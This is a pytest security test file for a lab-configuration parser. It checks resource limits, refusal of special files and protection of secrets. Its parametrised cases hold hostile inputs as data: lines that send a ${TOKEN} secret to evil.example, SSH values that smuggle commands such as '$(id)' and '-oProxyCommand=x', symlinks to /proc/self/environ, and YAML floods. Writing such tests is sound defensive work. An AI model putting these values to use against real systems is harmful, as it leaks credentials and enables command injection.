"""A lab file of a stranger: reading it ends, opens no other file than it should, and tells nobody anything."""

from __future__ import annotations

import os
import socket
import sys
from collections.abc import Callable, Mapping
from pathlib import Path
from types import FrameType
from typing import Any

import pytest

from nestlab.base.errors import LabError, Mistake, Mistakes
from nestlab.cli.consent import Consent, may_take
from nestlab.home import consents
from nestlab.home.directories import Home
from nestlab.images.image_files import recipe_of
from nestlab.lab import pve_address
from nestlab.lab.model import SOURCE_LIMIT, File, Image, Lab, Taken
from nestlab.lab.pve_address import parse as parse_address
from nestlab.labfile import load, parse, parse_text
from nestlab.labfile.fields import CARDS_LIMIT, MISTAKES_LIMIT, SIZE_LIMIT, WRITTEN_LIMIT

LAB = "lab: x\nmachines: {m: {image: tiny}}\n"


def told(text: str, environ: Mapping[str, str] | None = None, *, at: Path | None = None) -> tuple[Mistake, ...]:
    """The mistakes of a text."""
    with pytest.raises(Mistakes) as caught:
        parse_text(text, "lab.yaml", environ=environ or {}, directory=at)
    return caught.value.mistakes


# Floods


def calls_of(action: Callable[[], Any]) -> int:
    """How many functions of Python are called meanwhile: work that does not depend on how busy the machine is."""
    count = 0

    def note(frame: FrameType, event: str, arg: object) -> None:
        nonlocal count
        count += event == "call"

    sys.setprofile(note)
    try:
        action()
    except LabError:
        pass
    finally:
        sys.setprofile(None)
    return count


def listed(item: str, count: int) -> str:
    return ", ".join(item.replace("#", str(number)) for number in range(count))


FLOODS: dict[str, Callable[[int], str]] = {
    "defaults in defaults": lambda n: "lab: x\nmachines:\n  m:\n    cmdline: '" + "${A:-" * n + "'\n",
    "variables without end": lambda n: "lab: x\nmachines:\n  m:\n    cmdline: '" + "${" * n + "'\n",
    "lines of such": lambda n: "lab: x\nz:\n" + ("- '" + "${A:-" * 100 + "'\n") * (n // 50),
    "mistakes": lambda n: "lab: x\nmachines:\n" + "".join(f"  M{each}: {{zz: 1}}\n" for each in range(n)),
    "names that are none": lambda n: (
        f"lab: x\nsegments: {{{listed('seg#: ', n)}}}\nmachines:\n"
        + "".join(f"  m{each}: {{segments: [sfg{each}x]}}\n" for each in range(n))
    ),
    "lists in lists": lambda n: "lab: x\nz: [" + ", ".join(["[" * 60 + "]" * 60] * (n // 40)) + "]\n",
    "merges": lambda n: f"lab: x\nz: &z {{{listed('k#: 1', n)}}}\ny:\n" + "- <<: *z\n" * n,
    "aliases": lambda n: (
        f"lab: x\nz: &z [{listed('1', n)}]\ny: &y [{', '.join(['*z'] * n)}]\nx: [{', '.join(['*y'] * n)}]\n"
    ),
    "machines of aliases": lambda n: (
        f"lab: x\nmachines:\n  a: &a {{hypervisor: kvm, machines: {{{listed('m#: ~', 40)}}}}}\n"
        + "".join(f"  b{each}: *a\n" for each in range(n))
    ),
    "cards": lambda n: (
        f"lab: x\nsegments: {{{listed('s#: ', n)}}}\ndefaults: {{segments: [{listed('s#', n)}]}}\n"
        f"machines: {{{listed('m#: {}', n)}}}\n"
    ),
    "keys": lambda n: (
        f"lab: x\ndefaults: {{ssh_keys: [{', '.join(['ssh-x AAAA'] * n)}]}}\nmachines: {{{listed('m#: {}', n)}}}\n"
    ),
    "numbers": lambda n: f"lab: x\nmachines: {{m: {{cpus: {'9' * n}, memory: {'9' * n}G, disk: 0x{'f' * n}}}}}\n",
    "nothing but brackets": lambda n: "[" * n * 10,
    "blanks": lambda n: "lab: x\n" + " " * n + "y\n",
    "a long key": lambda n: "lab: x\n" + "k" * n + ": 1\n",
}


@pytest.mark.parametrize("flood", FLOODS.values(), ids=FLOODS)
def test_work_grows_no_faster_than_the_text(flood: Callable[[int], str], monkeypatch: pytest.MonkeyPatch) -> None:
    looked_through = 0
    veiled = pve_address.veiled

    def counting(text: str) -> str:
        nonlocal looked_through
        looked_through += len(text)
        return veiled(text)

    monkeypatch.setattr("nestlab.labfile.source.veiled", counting)
    effort, size = [], []
    for count in (400, 1600):
        text = flood(count)
        looked_through = 0
        effort.append(calls_of(lambda text=text: parse_text(text, environ={"A": "1"})))  # type: ignore[misc]
        size.append(len(text))
        assert looked_through <= len(text) + 2000 * MISTAKES_LIMIT, "each line is looked through for secrets once"
    assert effort[1] <= 200_000 + 1.5 * effort[0] * size[1] / size[0], f"{effort} calls for {size} letters"


def test_a_flood_is_one_message(tmp_path: Path) -> None:
    assert len(told("lab: x\nmachines: {m: {cmdline: '" + "${" * 5000 + "'}}\n")) == 1
    many = told("lab: x\nz:\n" + "- ${\n" * 5000)
    assert len(many) == MISTAKES_LIMIT + 1
    assert f"more than {MISTAKES_LIMIT - 1} mistakes up to here" in {each.what for each in many}
    with pytest.raises(Mistakes, match="read no further") as caught:
        parse_text("lab: x\nmachines:\n" + "".join(f"  M{n}:\n" for n in range(5000)), environ={})
    assert len(caught.value.mistakes) == MISTAKES_LIMIT
    written = told(f"lab: x\nz: [{listed('1', WRITTEN_LIMIT)}]\n")
    assert f"there are more than {WRITTEN_LIMIT} values" in written[-1].what
    ten = "".join(f"z{n}: &z{n} [{', '.join([f'*z{n - 1}'] * 10)}]\n" for n in range(1, 9))
    assert f"may hold {SIZE_LIMIT} values" in told(f"lab: x\nz0: &z0 [1]\n{ten}")[-1].hint
    many_cards = FLOODS["cards"](400)
    assert f"more than {CARDS_LIMIT} cards" in told(many_cards)[0].what


def test_a_short_variable_does_not_make_a_long_text() -> None:
    long = {"COLORS": "x" * 10_000}
    wrong = told(f"lab: x\nmachines: {{m: {{image: '{'${COLORS}' * 1000}'}}}}\n", long)
    assert "the values of variables make more than 1024 KiB" in wrong[0].what


def test_one_file_included_many_times_is_read_once_and_no_endless_number_of_times(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text("defaults: {cpus: 2}\n")
    (tmp_path / "lab.yaml").write_text(f"{LAB}include: [{', '.join(['a.yaml'] * 5000)}]\n")
    with pytest.raises(Mistakes) as caught:
        parse(tmp_path / "lab.yaml", environ={})
    assert [each.what for each in caught.value.mistakes] == [f"more than {load.FILES_LIMIT} files are included"]


def test_included_files_share_what_may_be_read(tmp_path: Path) -> None:
    names = [f"{number}.yaml" for number in range(20)]
    for name in names:
        (tmp_path / name).write_text(f"images: {{{listed(f'{name[:-5]}-#: 1', WRITTEN_LIMIT // 20)}}}\n")
    (tmp_path / "lab.yaml").write_text(f"{LAB}include: [{', '.join(names)}]\n")
    with pytest.raises(Mistakes) as caught:
        parse(tmp_path / "lab.yaml", environ={})
    assert any(f"more than {WRITTEN_LIMIT} values" in each.what for each in caught.value.mistakes)


# Files


def odd_files(folder: Path) -> dict[str, str]:
    """Names of what is no file on a disk, and what is said of each."""
    os.mkfifo(folder / "fifo")
    with socket.socket(socket.AF_UNIX) as door:
        door.bind(str(folder / "door"))
    (folder / "loop").symlink_to("loop")
    (folder / "zero").symlink_to("/dev/zero")
    (folder / "environ").symlink_to("/proc/self/environ")
    with (folder / "huge").open("wb") as huge:
        huge.truncate(3 << 30)
    return {
        "fifo": "FIFO",
        "door": "socket",
        "loop": "symbolic links",
        "zero": "device",
        "environ": "made by the kernel",
        "/proc/kmsg": "made by the kernel",
        "/proc/self/root/proc/self/mem": "made by the kernel",
        "/sys/kernel/notes": "made by the kernel",
        "/dev/stdin": "",
        ".": "directory",
        "huge": "more than",
        f"{'x' * 300}": "name too long",
        "a/\\e[31mb": "expected the path",
        "\\u202eb": "expected the path",
    }


PLACES = {
    "include": "include: [NAME]",
    "source": "defaults: {setup: {files: {/x: {source: NAME}}}}",
    "image source": "images: {i: {from: debian, files: {/x: {source: NAME}}}}",
    "cloud_init": "images: {i: {file: disk.raw, cloud_init: NAME}}",
    "ssh_keys": "defaults: {ssh_keys: [NAME]}",
    "file": "images: {i: {file: NAME, format: raw}}",
}


@pytest.mark.parametrize("place", PLACES)
def test_what_is_no_file_on_a_disk_is_a_mistake_at_once(
    place: str, short: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A FIFO would wait for a writer, /dev/zero never end, and a kernel's file tell of this process."""
    (short / "disk.raw").write_bytes(b"")
    monkeypatch.setattr("nestlab.base.regular.os.read", None)  # nothing of any of them is read
    for name, why in odd_files(short).items():
        if place == "file" and name == "huge":
            continue  # a disk may be large
        text = LAB + PLACES[place].replace("NAME", f'"{name}"')
        found = told(text, at=short)
        assert len(found) == 1, found
        other = "neither a file nor a disk" if place == "file" else "?"
        assert why.lower() in found[0].what.lower() or other in found[0].what, found[0]
        assert str(found[0]).replace("\n", "").isprintable()


@pytest.fixture
def short(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("o")


def test_a_file_that_grew_or_changed_its_kind_is_refused_when_it_is_read(short: Path) -> None:
    grown, fifo = short / "grown", short / "fifo"
    with grown.open("wb") as file:
        file.truncate(SOURCE_LIMIT + 1)
    os.mkfifo(fifo)
    for path, why in ((grown, "more than 64 MiB"), (fifo, "FIFO")):
        with pytest.raises(LabError, match=why):
            recipe_of(Image(base="debian", files=(File("/x", source=str(path)),)))


def test_files_to_copy_are_bounded_together(short: Path) -> None:
    with (short / "data").open("wb") as data:
        data.truncate(SOURCE_LIMIT)
    entries = listed("/f#: {source: data}", 6)
    found = told(f"{LAB}defaults: {{setup: {{files: {{{entries}}}}}}}\n", at=short)
    assert [each.what for each in found] == ["the files to copy have more than 256M up to here"]


def test_a_pipe_that_the_user_names_is_a_lab_file() -> None:
    reading, writing = os.pipe()
    os.write(writing, LAB.encode())
    os.close(writing)
    try:
        assert parse(Path(f"/dev/fd/{reading}"), environ={}).name == "x"
    finally:
        os.close(reading)


# Variables

SECRET = {"TOKEN": "s3cret", "DIR": "/srv/images", "WHERE": "pve://pve1"}


@pytest.mark.parametrize(
    "text",
    [
        "on: pve://${TOKEN}.evil.example",
        "on: pve://${TOKEN}@pve@evil.example",
        "on: pve+ssh://${TOKEN}@evil.example",
        "on: {pve: 'pve://evil.example/${TOKEN}'}",
        "images: {i: {from: debian, mirror: 'http://${TOKEN}.evil.example/'}}",
        "images: {i: {file: '/net/evil.example/${TOKEN}'}}",
        "images: {i: {file: '~${TOKEN}/x'}}",
        "images: {i: {file: '../${TOKEN}'}}",
        "images: {i: {from: debian, files: {/x: {source: '/net/${TOKEN}.evil.example/x'}}}}",
        "include: /net/${TOKEN}.evil.example/x.yaml",
        "defaults: {ssh_keys: ['/net/${TOKEN}.evil.example/x']}",
        "images: {i: {file: /etc/hostname, format: raw, cloud_init: '/net/${TOKEN}.evil.example/x'}}",
    ],
)
def test_a_variable_is_no_part_of_a_name_that_is_looked_up(text: str) -> None:
    found = told(LAB + text, SECRET)
    assert len(found) == 1, found
    assert "the variable TOKEN" in found[0].what
    assert "s3cret" not in str(found[0])


@pytest.mark.parametrize("name", ["NESTLAB_PVE_TOKEN", "NESTLAB_PVE_PASSWORD"])
def test_nestlabs_own_secrets_are_no_variables(name: str) -> None:
    for form in (f"${{{name}}}", f"${{{name}:-x}}"):
        found = told(f"{LAB}defaults: {{cmdline: '{form}'}}\n", {name: "s3cret"})
        assert f"{name} is nestlab's own secret" in found[0].what


def test_what_users_write_stays(tmp_path: Path) -> None:
    (tmp_path / "disk-12.raw").write_bytes(b"")
    text = (
        "lab: ${USER:-me}-lab\non: ${WHERE:-local}\n"
        "images: {a: {file: '${DIR}/disk-12.raw'}, b: {file: './disk-${VERSION:-12}.raw'}}\n"
        "machines: {m: {image: a}, n: {image: b, setup: ['a=${VERSION}']}}\n"
    )
    environ = {"DIR": str(tmp_path), "VERSION": "12", "WHERE": "pve://pve1"}
    made = parse_text(text, environ=environ, directory=tmp_path)
    assert (made.name, made.on is not None and made.on.address) == ("me-lab", "pve://pve1")
    assert made.named, "all of the address is the user's own"
    assert {each.machine.image.file for each in made.walk()} == {str(tmp_path / "disk-12.raw")}


@pytest.mark.parametrize(
    ("text", "sets", "named"),
    [
        ("on: pve://evil", [], False),
        ("on: ${NONE:-pve://evil}", [], False),
        ("on: {pve: pve://evil, pool: p}", [], False),
        ("on: {pve: '${WHERE}'}", [], True),
        ("on: pve://evil", ["on=pve://mine"], True),
        ("on: pve://evil", ["on.pool=p"], False),
        ("on: {pve: pve://evil}", ["on.pool=p"], False),
        ("on: {pve: pve://evil}", ["on.pve=pve://mine"], True),
    ],
)
def test_an_address_is_named_by_the_user_or_by_the_file(text: str, sets: list[str], named: bool) -> None:
    try:
        lab = parse_text(LAB + text, environ=SECRET, sets=sets)
    except Mistakes:
        assert sets == ["on.pool=p"]  # an address in one line has no keys
        return
    assert lab.named is named


def test_a_file_that_is_called_like_an_option_is_not_the_user(tmp_path: Path) -> None:
    (tmp_path / "--set #1").write_text("on: pve://evil\n")
    (tmp_path / "lab.yaml").write_text(f"{LAB}include: '--set #1'\n")
    assert not parse(tmp_path / "lab.yaml", environ={}).named


@pytest.mark.parametrize(
    "user", ["-oProxyCommand=x", "a;id", "$(id)", "`id`", "a|b", "a&b", "a'b", 'a"b', "a>b", "{a}", "%7C", "a\\"]
)
def test_a_user_of_ssh_is_no_command_for_a_shell(user: str) -> None:
    with pytest.raises(LabError):
        parse_address(f"pve+ssh://{user}@host")


@pytest.mark.parametrize("host", ["-oProxyCommand=x", "a b", "a;b", "$(id)", "a%0ab", "::1", "a/../b", ""])
def test_a_host_of_ssh_is_no_option(host: str) -> None:
    with pytest.raises(LabError):
        parse_address(f"pve+ssh://{host}")


# What it takes


def taken(folder: Path, text: str, environ: Mapping[str, str] | None = None, *sets: str) -> tuple[Taken, ...]:
    lab: Lab = parse_text(text, environ=environ or {}, directory=folder, sets=sets)
    return lab.taken


def test_each_file_and_variable_that_machines_get_is_named(tmp_path: Path) -> None:
    inside, outside = tmp_path / "lab", tmp_path / "outside"
    (inside / ".ssh").mkdir(parents=True)
    outside.mkdir()
    for path, mode in (
        (inside / "mine", 0o600),
        (inside / ".ssh/id_rsa", 0o600),
        (outside / "id_rsa", 0o600),
        (outside / "public", 0o644),
        (outside / "disk.raw", 0o640),
        (outside / "unused", 0o600),
    ):
        path.write_text("#cloud-config\n{}\n")
        path.chmod(mode)
    (inside / "link").symlink_to(outside / "id_rsa")
    files = "{/a: {source: mine}, /b: {source: link}, /c: {source: .ssh/id_rsa}, /d: {source: ../outside/public}}"
    text = (
        "lab: ${USER}\nimages: {i: {file: ../outside/disk.raw, cloud_init: ../outside/public},"
        " j: {from: debian, files: {/x: {source: ../outside/unused}}}}\n"
        f"machines: {{m: {{image: i, setup: {{files: {files}, commands: ['${{LANG}} ${{API_TOKEN}}']}}}}}}\n"
    )
    environ = {"USER": "me", "LANG": "C", "API_TOKEN": "s"}
    found = {each.what: each.private for each in taken(inside, text, environ)}
    assert found == {
        str(outside / "disk.raw"): True,
        str(outside / "public"): False,
        str(inside / "link"): True,
        str(inside / ".ssh/id_rsa"): True,
        "$LANG": False,
        "$API_TOKEN": True,
    }
    by_option = f"machines.m.setup.files={{/a: {{source: {outside}/id_rsa}}}}"
    assert str(outside / "id_rsa") not in {each.what for each in taken(inside, text, environ, by_option)}


def test_a_folder_from_elsewhere_that_machines_load_files_from_is_agreed_to_whatever_its_mode(tmp_path: Path) -> None:
    """/etc is for everybody, and what is in it is not: nestlab reads what its user may."""
    inside, outside = tmp_path / "lab", tmp_path / "etc"
    for folder in (inside / "boot", outside):
        folder.mkdir(parents=True, mode=0o755)
        (folder / "shadow").write_text("root:x\n")
        (folder / "shadow").chmod(0o600)
    text = "lab: x\nsegments: {wire: {netboot: {files: FOLDER, bios: shadow}}}\nmachines: {a: {image: tiny}}\n"
    assert taken(inside, text.replace("FOLDER", "./boot")) == ()
    [found] = taken(inside, text.replace("FOLDER", "../etc"))
    assert (found.what, found.private) == (f"{outside}/", True)
    with pytest.raises(LabError, match=f"others here may not read: the folder {outside}/"):
        may_take(Lab("x", taken=(found,)), Consent(), as_json=True)


def test_what_is_private_is_agreed_to_once_for_a_lab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where nobody can be asked; what the file takes besides, later, is asked for again."""
    monkeypatch.setenv("NESTLAB_HOME", str(tmp_path / "state"))
    key, other = (
        Taken("/k/id_rsa", "machines.m.setup.files./k.source", private=True),
        Taken("$TOKEN", "x", private=True),
    )
    lab = Lab("x", taken=(key, Taken("/k/public", "images.i.file")))
    with pytest.raises(LabError, match="others here may not read: the file /k/id_rsa") as caught:
        may_take(lab, Consent(), as_json=False)
    assert "`nestlab up --private`" in caught.value.hint
    may_take(lab, Consent(private=True), as_json=False)
    consents.keep(Home.of(os.environ, tmp_path).lab("x"), lab.taken)
    may_take(lab, Consent(), as_json=False)
    more = Lab("x", taken=(*lab.taken, other))
    with pytest.raises(LabError, match=r"others here may not read: \$TOKEN\."):
        may_take(more, Consent(), as_json=True)
    with pytest.raises(LabError):
        may_take(Lab("y", taken=lab.taken), Consent(), as_json=True)
